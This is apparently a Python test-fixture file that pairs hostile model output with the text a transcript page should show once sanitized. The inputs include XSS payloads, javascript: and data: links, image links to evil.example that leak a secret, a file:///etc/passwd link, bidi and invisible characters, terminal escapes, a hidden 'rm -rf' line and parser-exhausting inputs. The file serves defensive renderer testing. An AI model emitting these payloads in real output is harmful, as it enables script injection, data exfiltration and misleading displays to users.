"""Words of a model that tries to be more than words, and what a page may show of them.

Each fragment names what must be readable in the end; the tests see to it that nothing else comes of it.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Fragment:
    name: str
    text: str
    shown: str
    """What the transcript reads once all of it is there."""


FRAGMENTS = (
    Fragment("script", "<script>window.ran = 1</script>", "<script>window.ran = 1</script>"),
    Fragment("handler", '<img src=x onerror="window.ran = 1">', '<img src=x onerror="window.ran = 1">'),
    Fragment("frame", "<iframe srcdoc='<script>parent.ran=1</script>'>", "<iframe srcdoc="),
    Fragment("svg", "<svg/onload=window.ran=1><style>*{display:none}</style>", "<svg/onload=window.ran=1>"),
    Fragment("half a tag", "a <b onmouseover=window.ran=1 x", "a <b onmouseover=window.ran=1 x"),
    Fragment("script link", "[press here](javascript:window.ran=1)", "press here"),
    Fragment("hidden script link", "[press](java\tscript:window.ran=1) [it](JaVaScRiPt&colon;window.ran=1)", "it"),
    Fragment("data link", "[open](data:text/html,<script>window.ran=1</script>)", "open"),
    Fragment("defined link", "[read][1]\n\n[1]: javascript:window.ran=1 'sure'", "read"),
    Fragment("auto link", "<javascript:window.ran=1> <vbscript:x>", "javascript:window.ran=1"),
    Fragment("remote image", "![chart](https://evil.example/x.png?secret=1)", "chart"),
    Fragment("linked image", "[![a](https://evil.example/a.png)](https://evil.example/b)", "a"),
    Fragment("data image", "![dot](data:image/svg+xml,<svg/onload=window.ran=1>)", "dot"),
    Fragment("file link", "[notes](file:///etc/passwd) [api](/api/session)", "notes"),
    Fragment("reordered words", "Pay \u202egnihton\u202c now", "Pay ⟨202E⟩gnihton⟨202C⟩ now"),
    Fragment("isolated words", "a\u2066b\u2069c\u2067d\u2069", "a⟨2066⟩b⟨2069⟩c⟨2067⟩d⟨2069⟩"),
    Fragment("nothing to see", "vis\u200bi\u2060ble\ufeff", "vis⟨200B⟩i⟨2060⟩ble⟨FEFF⟩"),
    Fragment("tags nobody sees", "hello\U000e0048\U000e0049", "hello⟨E0048⟩⟨E0049⟩"),
    Fragment("terminal colours", "red \u001b[31mnot\u001b[0m here\u0007", "red ␛[31mnot␛[0m here␇"),
    Fragment("terminal title", "\u001b]0;pwned\u0007\u001b]8;;https://evil.example\u0007x", "␛]0;pwned␇␛]8;;"),
    Fragment("code with marks", "```sh\nrm -rf \u202e/tmp/x\u202c\n```", "rm -rf ⟨202E⟩/tmp/x⟨202C⟩"),
    Fragment("code with a bad language", '```"><script>window.ran=1</script>\nx = 1\n```', "x = 1"),
    Fragment("entity", "&lt;script&gt; &#60;img src=x onerror=window.ran=1&#62;", "<img src=x onerror=window.ran=1>"),
    Fragment(
        "class of ours", '<div class="request"><button class="button primary">Allow once</button></div>', "Allow once"
    ),
)

LONG = (
    Fragment("deep nesting", "> " * 200 + "deep\n\n" + "- " * 60 + "list", "deep"),
    Fragment("brackets", "[" * 2_000 + "x" + "](" * 500, "x"),
    Fragment("stars", "*" * 3_000 + "a" + "_" * 3_000, "a"),
    Fragment("a very long line", "w" * 40_000 + " end", "end"),
    Fragment(
        "a huge table",
        "|" + " c |" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + " cell |" * 60 + "\n") * 60,
        "cell",
    ),
    Fragment("marks without end", "a" + "\u0301" * 2_000 + " b", "b"),
)
"""Too long to be cut at every place: cut at some."""

WORDS = (
    "<img src=x onerror=window.ran=1> [go](javascript:window.ran=1) "
    "![x](https://evil.example/y.png) \u202egnp.exe\u200b\u001b[2J\u0007"
)
"""For every other place where a model's words are shown."""
SEEN = "⟨202E⟩gnp.exe⟨200B⟩"
"""How the end of them reads wherever a person judges something by its looks."""
